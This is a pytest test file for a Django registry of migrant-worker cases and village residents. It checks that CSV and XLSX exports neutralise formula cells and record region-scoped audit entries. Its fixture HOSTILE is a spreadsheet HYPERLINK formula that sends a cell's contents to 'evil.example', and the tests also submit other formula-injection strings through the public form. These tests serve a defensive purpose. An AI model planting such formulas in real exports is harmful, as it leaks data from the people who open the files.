"""core.exports: formula cells neutralised in every export, and every export audited under its region."""

import csv
import datetime
import io
import time
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from audit.models import Action, AuditEntry
from audit.services import common_region
from cases.forms import make_form_token
from core.exports import Sheet, neutralise, xlsx_bytes
from tests.conftest import GOGODESO, JATINOM

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+62 812", "'+62 812"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tcmd", "'\tcmd"), ("\rcmd", "'\rcmd"), ("-5", "'-5"), ("Siti", "Siti"), ("", ""), (None, ""),
    (-5, -5), (-2.5, -2.5), (Decimal("-1500000"), Decimal("-1500000")), (0, 0),
])
def test_text_that_starts_a_formula_gets_an_apostrophe_and_numbers_stay_numbers(value, expected):
    assert neutralise(value) == expected


def test_xlsx_text_cells_are_strings_and_numbers_are_numbers():
    wb = load_workbook(io.BytesIO(xlsx_bytes([Sheet("Data", [["nama", "saldo"], [HOSTILE, -250]])])))
    ws = wb["Data"]
    assert (ws["A2"].value, ws["A2"].data_type) == ("'" + HOSTILE, "s")
    assert (ws["B2"].value, ws["B2"].data_type) == (-250, "n")
    assert ws["A1"].font.bold is True


@pytest.mark.parametrize("codes,expected", [
    ([JATINOM, JATINOM], JATINOM),
    ([JATINOM, GOGODESO], "35.05.10"),
    (["35.05.10.2002", "35.05.12.2001"], "35.05"),
    (["35.05.10.2002", "33.01.01.2001"], ""),
    ([], None),
])
def test_the_export_region_is_the_deepest_region_holding_every_row(codes, expected):
    assert common_region(codes) == expected


def test_case_export_neutralises_a_formula_sent_through_the_public_form(client, regions, jatinom_operator):
    response = client.post(reverse("cases:public_form"), {
        "complainant_role": "family", "complainant_name": "@SUM(1+1)*cmd", "complainant_relation": "suami",
        "complainant_phone": "0812-3456-7890", "worker_name": HOSTILE, "village": JATINOM,
        "destination_country": "HK", "category": "document_withholding", "agency_name": "+62 PT Jaya",
        "description": "Paspor ditahan.", "consent_process": "on", "website": "",
        "form_token": make_form_token(time.time() - 30)}, REMOTE_ADDR="203.0.113.9")
    assert response.status_code == 302
    client.force_login(jatinom_operator)
    response = client.get(reverse("cases:export"), {"status": "open"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][8] == "pekerja"
    assert rows[1][8] == "'" + HOSTILE
    assert rows[1][10] == "'+62 PT Jaya"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)


def test_case_export_is_audited_with_rows_filter_and_region_the_district_sees(client, jatinom_operator,
                                                                                blitar_officer, gogodeso_operator):
    from cases import services

    for _n in range(2):
        services.intake_case(jatinom_operator, village=JATINOM, category="unpaid_wages", worker_name="Sri",
                             complainant_name="Sutrisno", complainant_phone="081234567890",
                             description="Gaji belum dibayar.")
    client.force_login(jatinom_operator)
    assert client.get(reverse("cases:export"), {"status": "open", "q": "3505104512950001"}).status_code == 200
    assert client.get(reverse("cases:export"), {"status": "open"}).status_code == 200
    entries = list(AuditEntry.objects.filter(action=Action.EXPORT, object_type="cases.case").order_by("id"))
    assert [e.region_code for e in entries] == [JATINOM, JATINOM]
    # The NIK typed into the search box is kept only in part.
    assert entries[0].note == "Daftar kasus — 0 baris (CSV); saringan: q=3505**********01, status=open"
    assert entries[1].note == "Daftar kasus — 2 baris (CSV); saringan: status=open"
    visible = AuditEntry.objects.visible_to(blitar_officer).filter(action=Action.EXPORT)
    assert {e.pk for e in visible} == {e.pk for e in entries}
    assert not AuditEntry.objects.visible_to(gogodeso_operator).filter(action=Action.EXPORT).exists()


def test_people_export_over_two_villages_is_recorded_under_their_district(client, blitar_officer, regions):
    from people.models import Person
    from tests.people.conftest import make_nik

    for village, serial in ((JATINOM, "0001"), (GOGODESO, "0002")):
        Person.objects.create(village_id=village, name=f"Warga {serial}", sex="F",
                              birth_date=datetime.date(1995, 5, 17), nik=make_nik(serial=serial),
                              kk=f"350510010101{serial}")
    client.force_login(blitar_officer)
    response = client.get("/warga/", {"export": "xlsx"})
    assert response.status_code == 200
    entry = AuditEntry.objects.get(action=Action.EXPORT, object_type="people.person")
    assert entry.region_code == "35.05.10"
    assert entry.note == "Daftar warga — 2 baris (XLSX)"


def test_open_data_csv_is_neutralised_but_not_audited(client, regions):
    response = client.get("/laporan/data-terbuka/provinsi.csv", {"tahun": 2026})
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="payung-provinsi-2026.csv"'
    assert not AuditEntry.objects.filter(action=Action.EXPORT).exists()


def test_xlsx_cells_are_typed_columns_fit_and_the_header_is_frozen_with_a_filter():
    when = datetime.datetime(2026, 11, 23, 1, 30, tzinfo=datetime.UTC)
    rows = [["Nama", "Tanggal lahir", "Dicatat", "Jumlah", "Biaya"],
            ["Siti Aminah binti Karto Wiryo", datetime.date(1995, 5, 17), when, 3, Decimal("1500000.50")]]
    ws = load_workbook(io.BytesIO(xlsx_bytes([Sheet("Data", rows)])))["Data"]
    assert (ws["B2"].value, ws["B2"].number_format, ws["B2"].is_date) == (
        datetime.datetime(1995, 5, 17), "DD/MM/YYYY", True)
    assert (ws["C2"].value, ws["C2"].number_format) == (datetime.datetime(2026, 11, 23, 8, 30), "DD/MM/YYYY HH:MM")
    assert (ws["D2"].data_type, ws["E2"].data_type) == ("n", "n")
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:E2"
    assert ws.column_dimensions["A"].width == len("Siti Aminah binti Karto Wiryo") + 1
    assert ws.column_dimensions["B"].width == len("Tanggal lahir") + 3  # the header, with room for the filter


def test_a_sheet_whose_table_starts_below_a_summary_freezes_and_filters_that_header():
    rows = [["Laporan", "Blitar"], [], ["Bagian", "Nilai"], ["A", 1], ["B", 2]]
    ws = load_workbook(io.BytesIO(xlsx_bytes([Sheet("Ringkasan", rows, bold_rows=(2,))])))["Ringkasan"]
    assert (ws.freeze_panes, ws.auto_filter.ref) == ("A4", "A3:B5")


@pytest.mark.parametrize("kind", ["people", "placements"])
def test_every_list_export_is_a_typed_sheet_with_a_frozen_filtered_header(kind, make_person, jatinom_operator,
                                                                           client_for):
    from migrants import services as migrant_services

    person = make_person()
    migrant_services.create_placement(jatinom_operator, person, destination_country="HK",
                                      contract_start=datetime.date(2025, 1, 10))
    url = "/warga/" if kind == "people" else "/pmi/"
    ws = load_workbook(io.BytesIO(client_for(jatinom_operator).get(url, {"export": "xlsx"}).content)).active
    header = [c.value for c in ws[1]]
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == f"A1:{ws.cell(row=1, column=len(header)).column_letter}2"
    birth = ws.cell(row=2, column=header.index("Tanggal lahir") + 1)
    assert (birth.value, birth.number_format) == (datetime.datetime.combine(person.birth_date, datetime.time()),
                                                  "DD/MM/YYYY")
    first_id = ws.cell(row=2, column=1)
    assert first_id.data_type == "n"  # the record's ID, a number
    assert all(ws.column_dimensions[c.column_letter].width >= 6 for c in ws[1])


def test_csv_opens_in_indonesian_excel_by_default_and_offers_commas(make_person, jatinom_operator, client_for):
    make_person(name="Siti Aminah")
    client = client_for(jatinom_operator)
    semicolons = client.get("/warga/", {"export": "csv"}).content.decode("utf-8")
    commas = client.get("/warga/", {"export": "csv", "pemisah": "koma"}).content.decode("utf-8")
    assert semicolons.startswith("\ufeffID warga;NIK;No. KK;Nama;")
    assert commas.startswith("\ufeffID warga,NIK,No. KK,Nama,")
    assert list(csv.reader(io.StringIO(semicolons[1:]), delimiter=";"))[1][3] == "Siti Aminah"
    entry = AuditEntry.objects.filter(action=Action.EXPORT).order_by("id").last()
    assert "pemisah" not in entry.note  # how to render is not a filter


@pytest.mark.parametrize("value,semicolon,comma", [
    (Decimal("1500000.50"), "1500000,50", "1500000.50"), (2.5, "2,5", "2.5"), (3, "3", "3"),
    (datetime.date(2026, 11, 23), "2026-11-23", "2026-11-23"), ("-1", "'-1", "'-1"),
])
def test_csv_numbers_use_the_decimal_mark_of_their_separator(value, semicolon, comma):
    from core.exports import csv_value

    assert (str(csv_value(value, ",")), str(csv_value(value, "."))) == (semicolon, comma)  # as csv writes them
